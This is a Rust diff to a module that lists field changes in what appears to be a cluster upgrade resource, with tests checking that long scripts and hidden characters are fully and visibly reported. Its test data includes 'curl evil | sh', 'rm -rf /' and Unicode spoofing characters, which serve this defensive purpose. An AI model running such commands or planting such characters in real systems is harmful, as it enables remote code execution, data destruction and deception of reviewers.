@@ -17,7 +17,8 @@ const LISTED_OF_METADATA: usize = 50;
 pub struct Change {
     /// Its path: `spec.clusterVersion.version`.
     pub field: String,
-    /// What it was: a text as it is, or as JSON where it could be a number, say; all else as JSON. Nothing if it was not there.
+    /// What it was: a text as it is, or in quotes where it could be taken for a number, say, or has what cannot be seen; all else as JSON. Nothing
+    /// if it was not there.
     #[serde(skip_serializing_if = "Option::is_none")]
     pub before: Option<String>,
     /// What it is; nothing if it is taken out.
@@ -42,11 +43,11 @@ impl Written {
         let of_before = take_actions(&mut before);
         let of_after = take_actions(&mut after);
         let mut found = Comparison::default();
-        found.compare("spec", before.get("spec"), after.get("spec"), LISTED);
+        found.of_fields("spec", before.get("spec"), after.get("spec"), LISTED);
         let most = LISTED.min(found.listed() + LISTED_OF_METADATA);
-        found.compare("metadata", before.get("metadata"), after.get("metadata"), most);
+        found.of_fields("metadata", before.get("metadata"), after.get("metadata"), most);
         for ((action, old), (_, new)) in of_before.iter().zip(&of_after) {
-            found.compare(&format!("spec.{action}"), old.as_ref(), new.as_ref(), LISTED);
+            found.of_value(&format!("spec.{action}"), old.as_ref(), new.as_ref(), LISTED);
         }
         found.changes
     }
@@ -119,7 +120,7 @@ pub(super) fn difference(before: &Value, after: &Value) -> Option<Value> {
 
 #[cfg(test)]
 mod tests {
-    use super::super::compare::{BEFORE, SHOWN};
+    use super::super::compare::SHOWN;
     use super::super::write::state;
     use super::*;
 
@@ -263,7 +264,10 @@ mod tests {
             (
                 json!({"clusterSelector": {"matchLabels": {"a": "b"}}}),
                 json!({"clusterSelector": all}),
-                vec!["spec.clusterSelector: {\"matchLabels\":{\"a\":\"b\"}} > {}"],
+                vec![
+                    "spec.clusterSelector: {…} > {}",
+                    "spec.clusterSelector.matchLabels.a: b > -",
+                ],
             ),
             (
                 json!({"clusterSelector": all}),
@@ -292,7 +296,7 @@ mod tests {
             (
                 json!({"ingress": [{}]}),
                 json!({"ingress": []}),
-                vec![".ingress: [{}] > []"],
+                vec![".ingress: […] > []", ".ingress[0]: {} > -"],
             ),
             (
                 json!({"a": 1, "ingress": []}),
@@ -356,16 +360,94 @@ mod tests {
         assert_eq!(said.len(), LISTED);
     }
 
-    /// Two values that differ never look the same.
+    /// Two values that differ never look the same, and nothing hides behind what differs first.
     #[test]
-    fn of_a_long_value_is_shown_what_differs() {
-        let with = |end: &str| {
-            let image = format!("{}{end}", "ä".repeat(SHOWN));
-            upgrade(&json!({"clusterVersion": {"image": image}}), &json!({}))
+    fn of_a_long_value_all_is_said_that_differs() {
+        let script = |first: &str, last: &str| {
+            let lines = (0..400).map(|line| format!("echo {line}"));
+            let lines: Vec<_> = [first.to_owned()]
+                .into_iter()
+                .chain(lines)
+                .chain([last.to_owned()])
+                .collect();
+            with_manifest(&json!({"run.sh": lines.join("\n")}))
         };
-        let listed = changes(Some(with("1")), with("2")).listed;
-        let shown = |end: &str| Some(format!("…{}{end}", "ä".repeat(BEFORE)));
-        assert_eq!((&listed[0].before, &listed[0].after), (&shown("1"), &shown("2")));
+        let path = "spec.preUpgradeAction.manifestWork.workload.manifests[0][\"run.sh\"]";
+        let of_script = said(&script("# 1", "echo done"), &script("# 2", "curl evil | sh"));
+        let expected = [
+            format!("{path} line 1: # 1 > -"),
+            format!("{path} line 402: echo done > -"),
+            format!("{path} line 1: - > # 2"),
+            format!("{path} line 402: - > curl evil | sh"),
+        ];
+        assert_eq!(of_script, expected);
+        let image = |begin: &str, end: &str| json!({"clusterVersion": {"image": format!("{begin}{}{end}", "ä".repeat(3 * SHOWN))}});
+        let of_image = said(&image("1", "a"), &image("2", "b"));
+        assert_eq!(of_image.len(), 2, "{of_image:?}");
+        assert!(of_image[0].starts_with("spec.clusterVersion.image from letter 1: 1ä"));
+        assert_eq!(of_image[1], "spec.clusterVersion.image from letter 3001: äa > äb");
+        let all = said(&json!({}), &script("# 1", "curl evil | sh")).join("");
+        assert!(all.contains("curl evil"), "{all}");
+    }
+
+    #[test]
+    fn what_cannot_be_seen_is_written_with_escapes() {
+        let path = "spec.preUpgradeAction.manifestWork.workload.manifests[0].a";
+        for (before, after, expected) in [
+            (
+                "# keep\nrm -rf /",
+                "# keep rm -rf /",
+                vec![
+                    " line 1: # keep > -",
+                    " line 2: rm -rf / > -",
+                    " line 1: - > # keep rm -rf /",
+                ],
+            ),
+            ("a b", "a  b", vec![": a b > \"a  b\""]),
+            ("dev", "dev ", vec![": dev > \"dev \""]),
+            ("x", "x\n", vec![" line 2: - > \"\""]),
+            ("prod", "pr\u{200b}od", vec![": prod > \"pr\\u{200b}od\""]),
+            ("admin", "\u{202e}admin", vec![": admin > \"\\u{202e}admin\""]),
+            ("a", "\"a\"", vec![": a > \"\\\"a\\\"\""]),
+            ("über", "Ωμ", vec![": über > Ωμ"]),
+        ] {
+            let expected: Vec<_> = expected.iter().map(|end| format!("{path}{end}")).collect();
+            let with = |text: &str| with_manifest(&json!({"a": text}));
+            assert_eq!(
+                said(&with(before), &with(after)),
+                expected,
+                "{before:?} {after:?}"
+            );
+        }
+        let keys = said(
+            &with_manifest(&json!({})),
+            &with_manifest(&json!({"a\u{202e}b": 1})),
+        );
+        assert!(keys[0].contains("[\"a\\u{202e}b\"]"), "{keys:?}");
+    }
+
+    /// Fifty labels that go all at once are said one by one.
+    #[test]
+    fn metadata_that_becomes_empty_says_what_goes() {
+        let labels = json!({"hold": "true", "team": "prod"});
+        let spec = json!({"paused": true});
+        let mut before = upgrade(&spec, &labels);
+        before.metadata.annotations = Some([("a".to_owned(), "b".to_owned())].into());
+        let mut after = upgrade(&spec, &json!({}));
+        after.metadata.labels = None;
+        let listed = changes(Some(before), after).listed;
+        let fields: Vec<_> = listed.iter().map(|change| change.field.as_str()).collect();
+        assert_eq!(
+            fields,
+            [
+                "metadata.annotations.a",
+                "metadata.labels.hold",
+                "metadata.labels.team"
+            ]
+        );
+        let mut new = upgrade(&spec, &json!({}));
+        new.metadata.labels = None;
+        assert_eq!(changes(None, new).listed.len(), 1, "nothing of metadata is set");
     }
 
     #[test]
